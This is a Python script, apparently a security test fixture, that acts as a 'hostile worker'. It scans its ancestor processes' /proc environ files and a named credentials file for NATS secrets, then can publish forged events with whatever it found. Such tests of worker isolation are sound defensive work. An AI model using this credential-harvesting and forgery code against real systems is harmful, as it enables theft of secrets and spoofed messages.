"""A hostile worker: looks for its agent's NATS credentials where a worker can reach them,
and, given ``--forge FILE``, publishes the events in FILE with whatever it found.

Never imports resurge (the standard library, and nats-py only to publish). It looks in
the environment of itself and of each ancestor (``/proc/<pid>/environ``: the fork server,
the agent, the node monitor, ...) for ``RESURGE_NATS_*`` variables, and reads a
credentials file one of them names. It prints one line, ``THIEF {json}``, with what it
found (and, forging, what the server said to each publish), then exits 0.

FILE holds a JSON list of ``{"subject": ..., "body": ...}``; the server's address comes
from what it found or from ``--url``. ``--credentials PATH``: the credentials file to use
when it found none (what a worker running as root could read: its agent's own).
``--report PATH`` writes the line's JSON there too, and after each publish what it has.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import sys
from pathlib import Path
from typing import Any


def parent_of(pid: int) -> int:
    stat = Path(f"/proc/{pid}/stat").read_text()
    return int(stat.rsplit(")", 1)[1].split()[1])


def environ_of(pid: int) -> dict[str, str] | str:
    """The variables ``pid`` started with, or why they cannot be read."""
    try:
        raw = Path(f"/proc/{pid}/environ").read_bytes()
    except OSError as error:
        return type(error).__name__
    pairs = (item.decode(errors="replace").partition("=") for item in raw.split(b"\0") if item)
    return {key: value for key, _, value in pairs}


def look() -> dict[str, Any]:
    found: dict[str, Any] = {"processes": []}
    nats: dict[str, str] = {}
    pid = os.getpid()
    while pid > 1:
        environ = environ_of(pid)
        comm = Path(f"/proc/{pid}/comm").read_text().strip()
        entry: dict[str, Any] = {"pid": pid, "comm": comm}
        if isinstance(environ, str):
            entry["unreadable"] = environ
        else:
            mine = {k: v for k, v in environ.items() if k.startswith("RESURGE_NATS_")}
            entry["nats_variables"] = sorted(mine)
            for key, value in mine.items():
                nats.setdefault(key, value)
        found["processes"].append(entry)
        pid = parent_of(pid)
    found["nats_variables"] = sorted(nats)
    path = nats.get("RESURGE_NATS_CREDENTIALS")
    if path:
        try:
            found["credentials"] = json.loads(Path(path).read_text())
        except OSError as error:
            found["credentials_unreadable"] = type(error).__name__
    elif "RESURGE_NATS_USER" in nats:
        found["credentials"] = {
            "user": nats["RESURGE_NATS_USER"],
            "password": nats.get("RESURGE_NATS_PASSWORD", ""),
        }
    found["url"] = nats.get("RESURGE_NATS_URL")
    return found


def report(found: dict[str, Any], path: Path | None) -> None:
    """Write ``found`` to ``path`` whole (a reader never sees half of it)."""
    if path is not None:
        partial = path.with_name(f".{path.name}.tmp")
        partial.write_text(json.dumps(found))
        partial.replace(path)


async def forge(
    found: dict[str, Any], messages: list[dict[str, Any]], url: str, path: Path | None
) -> list[str]:
    """Publish each message, saying after each what the server said (a forgery that
    works may have this worker killed before the next)."""
    import nats

    errors: list[str] = []

    async def on_error(error: Exception) -> None:
        errors.append(str(error))

    credentials = found.get("credentials") or {}
    client = await nats.connect(
        url,
        user=credentials.get("user"),
        password=credentials.get("password"),
        error_cb=on_error,
        allow_reconnect=False,
        connect_timeout=5,
    )
    outcomes: list[str] = []
    found["published"] = outcomes
    for message in messages:
        before = len(errors)
        await client.publish(message["subject"], json.dumps(message["body"]).encode())
        await client.flush(timeout=5)
        await asyncio.sleep(0.2)  # a permissions violation comes back asynchronously
        outcomes.append("; ".join(errors[before:]) or "sent")
        report(found, path)
    await client.close()
    return outcomes


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("--forge", type=Path, default=None)
    parser.add_argument("--url", default=None)
    parser.add_argument("--credentials", type=Path, default=None)
    parser.add_argument("--report", type=Path, default=None)
    args = parser.parse_args()
    found = look()
    if "credentials" not in found and args.credentials is not None:
        found["credentials"] = json.loads(args.credentials.read_text())
        found["credentials_given"] = str(args.credentials)
    if args.forge is not None:
        url = found.get("url") or args.url
        messages = json.loads(args.forge.read_text())
        try:
            found["published"] = asyncio.run(forge(found, messages, url, args.report))
        except Exception as error:  # refused at connect: no credentials
            found["published"] = f"{type(error).__name__}: {error}"
    print("THIEF " + json.dumps(found), flush=True)
    report(found, args.report)
    return 0


if __name__ == "__main__":
    sys.exit(main())
